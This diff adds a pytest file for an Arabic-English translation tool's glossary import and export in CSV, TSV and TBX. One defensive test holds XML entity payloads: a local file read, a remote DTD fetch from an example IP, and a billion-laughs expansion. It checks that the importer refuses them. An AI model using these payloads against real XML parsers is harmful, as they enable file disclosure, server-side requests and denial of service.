@@ -1,0 +1,332 @@
+"""Glossary files: CSV/TSV and TBX read and written, other tools' files, and bad or hostile files refused whole."""
+
+from __future__ import annotations
+
+import codecs
+from pathlib import Path
+
+import pytest
+from translate.storage.tbx import tbxfile
+
+from tarjama.domain import GlossaryEntry
+from tarjama.errors import BadInputError
+from tarjama.formats.glossary_csv import read_glossary_csv, write_glossary_csv
+from tarjama.formats.tbx import TbxReport, read_tbx, write_tbx
+from tarjama.glossary_exchange import export_glossary, import_glossary
+from tarjama.stores.glossary import Glossary
+
+ENTRIES = [
+    GlossaryEntry("النصرة", ("Nusra Front", "al-Nusra", "Jabhat al-Nusra"), note="Renamed in 2016, see «فتح الشام».",
+                  forbidden=("Victory Front", "Support Front")),
+    GlossaryEntry("الجيش السوري الحر", ("Free Syrian Army",), note='Say "the FSA", not "rebels";\ta tab, a, comma'),
+    GlossaryEntry("مجلس الأمن", ("Security Council",), note="First line\nsecond line"),
+    GlossaryEntry("إدلب", ("Idlib",)),
+]
+
+
+def read_csv(tmp_path: Path, name: str, data: bytes) -> list[GlossaryEntry]:
+    return list(read_glossary_csv(data, tmp_path / name))
+
+
+# -- CSV and TSV ----------------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(("name", "delimiter"), [("terms.csv", ","), ("terms.tsv", "\t")])
+def test_csv_and_tsv_round_trip(tmp_path: Path, name: str, delimiter: str) -> None:
+    data = write_glossary_csv(ENTRIES, delimiter)
+    assert data.startswith(codecs.BOM_UTF8)  # so Excel opens the Arabic as Arabic
+    assert data.split(b"\r\n")[0] == codecs.BOM_UTF8 + delimiter.join(["arabic", "english", "note",
+                                                                        "forbidden"]).encode()
+    assert read_csv(tmp_path, name, data) == ENTRIES
+
+
+def test_a_hand_made_csv_with_other_column_names_and_separators(tmp_path: Path) -> None:
+    data = (
+        "Term ID,AR-SA,en_US,Notes,Forbidden\n"
+        "1,جيش,army | military,,troops;  forces\n"
+        ",,,,\n"
+        "2,\"حلب\",\"Aleppo\",\"the city, not the province\",\n"
+    ).encode()
+    assert read_csv(tmp_path, "terms.csv", data) == [
+        GlossaryEntry("جيش", ("army", "military"), forbidden=("troops", "forces")),
+        GlossaryEntry("حلب", ("Aleppo",), note="the city, not the province"),
+    ]
+
+
+def test_a_semicolon_csv_from_a_european_excel(tmp_path: Path) -> None:
+    data = codecs.BOM_UTF8 + "arabic;english;note\nجيش;army;\"the army; any\"\n".encode()
+    assert read_csv(tmp_path, "terms.csv", data) == [GlossaryEntry("جيش", ("army",), note="the army; any")]
+
+
+def test_excel_unicode_text_and_windows_arabic(tmp_path: Path) -> None:
+    unicode_text = "arabic\tenglish\r\nجيش\tarmy\r\n".encode("utf-16")
+    assert read_csv(tmp_path, "terms.txt.tsv", unicode_text) == [GlossaryEntry("جيش", ("army",))]
+    rows = [("الجيش السوري الحر", "Free Syrian Army"), ("مجلس الأمن", "Security Council"),
+            ("وقف إطلاق النار", "ceasefire"), ("الأمم المتحدة", "United Nations"), ("حلب", "Aleppo")]
+    legacy = b"arabic,english\n" + "".join(f"{ar},{en}\n" for ar, en in rows).encode("cp1256")
+    assert [e.source for e in read_csv(tmp_path, "terms.csv", legacy)] == [ar for ar, _ in rows]
+
+
+def test_a_missing_column_is_named(tmp_path: Path) -> None:
+    with pytest.raises(BadInputError, match="no column for the English term") as raised:
+        read_csv(tmp_path, "terms.csv", "arabic,translation\nجيش,army\n".encode())
+    assert raised.value.path.name == "terms.csv" and "'translation'" in str(raised.value)
+    with pytest.raises(BadInputError, match="is empty"):
+        read_csv(tmp_path, "terms.csv", codecs.BOM_UTF8)
+    with pytest.raises(BadInputError, match="two columns for the Arabic term"):
+        read_csv(tmp_path, "terms.csv", "arabic,english,source\nجيش,army,جيش\n".encode())
+
+
+@pytest.mark.parametrize(
+    ("row", "problem"),
+    [
+        (',army,"a note"', "line 4: the Arabic term is empty"),
+        ("جيش,,", "line 4: there is no English term for «جيش»"),
+        ("army,جيش,", "line 4: the Arabic term «army» has no Arabic letter"),
+    ],
+)
+def test_a_bad_row_names_its_line_when_it_is_reached(tmp_path: Path, row: str, problem: str) -> None:
+    data = f'arabic,english,note\nحلب,Aleppo,"two\nlines"\n{row}\n'.encode()
+    entries = read_glossary_csv(data, tmp_path / "terms.csv")
+    assert next(entries).source == "حلب"
+    with pytest.raises(BadInputError, match=problem):
+        next(entries)
+
+
+def test_a_missing_closing_quote_is_reported(tmp_path: Path) -> None:
+    with pytest.raises(BadInputError, match="line 2 cannot be read"):
+        read_csv(tmp_path, "terms.csv", 'arabic,english\nجيش,"army\n'.encode())
+
+
+# -- TBX ------------------------------------------------------------------------------------------------------
+
+
+def test_tbx_round_trip_and_other_tools_read_it(tmp_path: Path) -> None:
+    data = write_tbx(ENTRIES)
+    assert data.startswith(b'<?xml version="1.0" encoding="UTF-8"?>\n<martif type="TBX-Basic"')
+    assert list(read_tbx(data, tmp_path / "terms.tbx")) == ENTRIES
+    out = tmp_path / "terms.tbx"
+    out.write_bytes(data)
+    with out.open("rb") as handle:
+        units = tbxfile(handle).units
+    assert [(unit.source, unit.target) for unit in units] == [(e.source, e.targets[0]) for e in ENTRIES]
+
+
+TBX_BASIC_2008 = """<?xml version="1.0" encoding="UTF-8"?>
+<!DOCTYPE martif SYSTEM "TBXBasiccoreStructV02.dtd">
+<martif type="TBX-Basic-V1" xml:lang="en-US">
+  <martifHeader><fileDesc><sourceDesc><p>Exported from MultiTerm</p></sourceDesc></fileDesc></martifHeader>
+  <text><body>
+    <termEntry id="t1">
+      <descripGrp><descrip type="definition">An armed opposition group.</descrip></descripGrp>
+      <langSet xml:lang="ar-SA">
+        <tig><term>الجيش الحر</term><termNote type="administrativeStatus">preferredTerm-admn-sts</termNote></tig>
+        <ntig><termGrp><term>الجيش السوري الحر</term></termGrp></ntig>
+        <tig><term>جيش التحرير</term>
+          <termNote type="administrativeStatus">deprecatedTerm-admn-sts</termNote></tig>
+      </langSet>
+      <langSet xml:lang="en-US">
+        <note>Spell out on first use.</note>
+        <tig><term>rebels</term><termNote type="administrativeStatus">supersededTerm-admn-sts</termNote></tig>
+        <tig><term>FSA</term><termNote type="administrativeStatus">admittedTerm-admn-sts</termNote></tig>
+        <tig><term>Free Syrian <hi>Army</hi></term>
+          <termNote type="partOfSpeech">noun</termNote>
+          <termNote type="administrativeStatus">preferredTerm-admn-sts</termNote></tig>
+      </langSet>
+      <langSet xml:lang="fr-FR"><tig><term>Armée syrienne libre</term></tig></langSet>
+    </termEntry>
+    <termEntry id="t2">
+      <langSet xml:lang="en"><tig><term>ceasefire</term></tig></langSet>
+      <langSet xml:lang="fr"><tig><term>cessez-le-feu</term></tig></langSet>
+    </termEntry>
+  </body></text>
+</martif>
+"""
+
+TBX_V3 = """<?xml version="1.0" encoding="UTF-8"?>
+<?xml-model href="TBXcoreStructV03_TBX-Basic_integrated.rng" type="application/xml"
+  schematypens="http://relaxng.org/ns/structure/1.0"?>
+<tbx type="TBX-Basic" style="dca" xml:lang="en" xmlns="urn:iso:std:iso:30042:ed-2">
+  <tbxHeader><fileDesc><sourceDesc><p>termbase</p></sourceDesc></fileDesc></tbxHeader>
+  <text><body>
+    <conceptEntry id="c5">
+      <descrip type="definition">Agreement to stop fighting.</descrip>
+      <langSec xml:lang="ar">
+        <termSec><term>وقف إطلاق النار</term></termSec>
+      </langSec>
+      <langSec xml:lang="en">
+        <termSec><term>truce</term><termNote type="administrativeStatus">admittedTerm-admn-sts</termNote></termSec>
+        <termSec><term>ceasefire</term><termNote type="administrativeStatus">preferredTerm-admn-sts</termNote></termSec>
+        <termSec><term>cease-fire</term>
+          <termNote type="administrativeStatus">deprecatedTerm-admn-sts</termNote></termSec>
+      </langSec>
+    </conceptEntry>
+  </body></text>
+</tbx>
+"""
+
+TBX_V3_DCT = """<?xml version="1.0" encoding="UTF-8"?>
+<tbx type="TBX-Basic" style="dct" xml:lang="en" xmlns="urn:iso:std:iso:30042:ed-2"
+     xmlns:basic="http://www.tbxinfo.net/ns/basic">
+  <tbxHeader><fileDesc><sourceDesc><p>termbase</p></sourceDesc></fileDesc></tbxHeader>
+  <text><body>
+    <conceptEntry id="c1">
+      <langSec xml:lang="ar"><termSec><term>حلب</term></termSec></langSec>
+      <langSec xml:lang="en">
+        <termSec><term>Halab</term><basic:administrativeStatus>deprecatedTerm-admn-sts</basic:administrativeStatus></termSec>
+        <termSec><term>Aleppo</term></termSec>
+      </langSec>
+    </conceptEntry>
+  </body></text>
+</tbx>
+"""
+
+
+def test_reading_a_tbx_basic_2008_file_from_another_tool(tmp_path: Path) -> None:
+    report = TbxReport()
+    entries = list(read_tbx(TBX_BASIC_2008.encode(), tmp_path / "multiterm.tbx", report))
+    english = ("Free Syrian Army", "FSA")
+    notes = "An armed opposition group.\nSpell out on first use."
+    assert entries == [
+        GlossaryEntry("الجيش الحر", english, note=notes, forbidden=("rebels",)),
+        GlossaryEntry("الجيش السوري الحر", english, note=notes, forbidden=("rebels",)),
+    ]
+    assert (report.concepts, report.entries, report.skipped_concepts) == (2, 2, 1)
+    assert report.languages == {"ar", "en", "fr"}
+
+
+@pytest.mark.parametrize(
+    ("document", "expected"),
+    [
+        (TBX_V3, GlossaryEntry("وقف إطلاق النار", ("ceasefire", "truce"), note="Agreement to stop fighting.",
+                               forbidden=("cease-fire",))),
+        (TBX_V3_DCT, GlossaryEntry("حلب", ("Aleppo",), forbidden=("Halab",))),
+    ],
+)
+def test_reading_tbx_v3_concept_entries(tmp_path: Path, document: str, expected: GlossaryEntry) -> None:
+    assert list(read_tbx(document.encode(), tmp_path / "v3.tbx")) == [expected]
+
+
+def test_malformed_tbx_names_the_line(tmp_path: Path) -> None:
+    broken = TBX_V3.replace("</termSec>\n      </langSec>", "</termSec>\n      </langSc>", 1)
+    line = broken.splitlines().index("      </langSc>") + 1
+    entries = read_tbx(broken.encode(), tmp_path / "broken.tbx")
+    with pytest.raises(BadInputError, match=rf"broken\.tbx: is not well-formed XML \(line {line}:"):
+        list(entries)
+
+
+def test_xml_that_is_not_tbx_is_refused(tmp_path: Path) -> None:
+    tmx = b'<?xml version="1.0"?><tmx version="1.4"><header/><body/></tmx>'
+    with pytest.raises(BadInputError, match="not a TBX file"):
+        list(read_tbx(tmx, tmp_path / "memory.tbx"))
+
+
+def _hostile(declarations: str, body: str) -> str:
+    return (f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE martif [\n{declarations}\n]>\n'
+            f'<martif type="TBX-Basic"><text><body><termEntry>'
+            f'<langSet xml:lang="ar"><tig><term>سر</term></tig></langSet>'
+            f'<langSet xml:lang="en"><tig><term>{body}</term></tig></langSet>'
+            f"</termEntry></body></text></martif>\n")
+
+
+@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
+@pytest.mark.parametrize(
+    ("declarations", "body"),
+    [
+        ('<!ENTITY secret SYSTEM "{secret}">', "&secret;"),
+        ('<!ENTITY % remote SYSTEM "http://203.0.113.7/evil.dtd"> %remote;', "x"),
+        ('<!ENTITY web SYSTEM "http://203.0.113.7/term">', "&web;"),
+        ('<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">', "&c;"),
+    ],
+)
+def test_entity_declarations_are_refused_without_reading_or_connecting(
+    tmp_path: Path, declarations: str, body: str, encoding: str
+) -> None:
+    secret = tmp_path / "secret.txt"
+    secret.write_text("TOP-SECRET-VALUE", encoding="utf-8")
+    document = _hostile(declarations.format(secret=secret.as_uri()), body).replace('encoding="UTF-8"',
+                                                                                    f'encoding="{encoding}"')
+    glossary_path = tmp_path / "g.tarjama-glossary"
+    hostile = tmp_path / "hostile.tbx"
+    hostile.write_bytes(document.encode(encoding))
+    with pytest.raises(BadInputError, match="entity declarations") as raised:
+        import_glossary(glossary_path, hostile)
+    assert "TOP-SECRET" not in str(raised.value)
+    with Glossary.open(glossary_path) as glossary:
+        assert glossary.entries() == []
+
+
+# -- import and export services -----------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("name", ["terms.csv", "terms.tsv", "terms.tbx"])
+def test_export_then_import_into_another_glossary(tmp_path: Path, name: str) -> None:
+    mine = tmp_path / "mine.tarjama-glossary"
+    with Glossary.create(mine) as glossary:
+        glossary.import_entries(ENTRIES)
+    out = tmp_path / name
+    assert export_glossary(mine, out) == len(ENTRIES)
+    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(["mine.tarjama-glossary", name])  # no temp files
+    other = tmp_path / "other.tarjama-glossary"
+    report = import_glossary(other, out)
+    assert (report.added, report.merged) == (4, 0)
+    assert report.summary() == f"Imported {name}: 4 terms added, 0 merged with terms already there."
+    assert import_glossary(other, out).merged == 4
+    with Glossary.open(other) as glossary:
+        assert [GlossaryEntry(e.source, e.targets, e.note, e.forbidden) for e in glossary.entries()] == ENTRIES
+
+
+def test_an_import_with_a_bad_row_changes_nothing(tmp_path: Path) -> None:
+    glossary_path = tmp_path / "g.tarjama-glossary"
+    with Glossary.create(glossary_path) as glossary:
+        glossary.add(GlossaryEntry("جيش", ("army",)))
+    bad = tmp_path / "bad.csv"
+    bad.write_text("arabic,english\nحلب,Aleppo\nجيش,military\n,orphan\nإدلب,Idlib\n", encoding="utf-8")
+    with pytest.raises(BadInputError, match=r"bad\.csv: line 4: the Arabic term is empty"):
+        import_glossary(glossary_path, bad)
+    with Glossary.open(glossary_path) as glossary:
+        assert [(e.source, e.targets) for e in glossary.entries()] == [("جيش", ("army",))]
+
+
+def test_a_file_without_usable_terms_is_refused(tmp_path: Path) -> None:
+    french = tmp_path / "fr.tbx"
+    french.write_text(TBX_BASIC_2008.replace('xml:lang="ar-SA"', 'xml:lang="de"'), encoding="utf-8")
+    with pytest.raises(BadInputError, match=r"no Arabic term .*languages found: de, en, fr"):
+        import_glossary(tmp_path / "g.tarjama-glossary", french)
+    header_only = tmp_path / "empty.csv"
+    header_only.write_text("arabic,english\n", encoding="utf-8")
+    with pytest.raises(BadInputError, match="no Arabic term with an English translation; nothing was imported"):
+        import_glossary(tmp_path / "g.tarjama-glossary", header_only)
+
+
+def test_unsupported_extensions_missing_files_and_folders(tmp_path: Path) -> None:
+    glossary_path = tmp_path / "g.tarjama-glossary"
+    Glossary.create(glossary_path).close()
+    with pytest.raises(BadInputError, match=r"is a \.xlsx file; .* \.csv, \.tsv, \.tbx"):
+        import_glossary(glossary_path, tmp_path / "terms.xlsx")
+    with pytest.raises(BadInputError, match="without an extension"):
+        export_glossary(glossary_path, tmp_path / "terms")
+    with pytest.raises(BadInputError, match="was not found"):
+        import_glossary(glossary_path, tmp_path / "missing.csv")
+    (tmp_path / "folder.csv").mkdir()
+    with pytest.raises(BadInputError, match="is a folder"):
+        export_glossary(glossary_path, tmp_path / "folder.csv")
+    with pytest.raises(BadInputError, match="could not be written"):
+        export_glossary(glossary_path, tmp_path / "no" / "such" / "folder.csv")
+
+
+def test_a_failed_export_leaves_the_old_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    glossary_path = tmp_path / "g.tarjama-glossary"
+    with Glossary.create(glossary_path) as glossary:
+        glossary.import_entries(ENTRIES)
+    out = tmp_path / "terms.csv"
+    out.write_text("the previous export", encoding="utf-8")
+
+    def full_disk(*_: object) -> None:
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr("tarjama.glossary_exchange.os.fsync", full_disk)
+    with pytest.raises(BadInputError, match="No space left"):
+        export_glossary(glossary_path, out)
+    assert out.read_text(encoding="utf-8") == "the previous export"
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["g.tarjama-glossary", "terms.csv"]
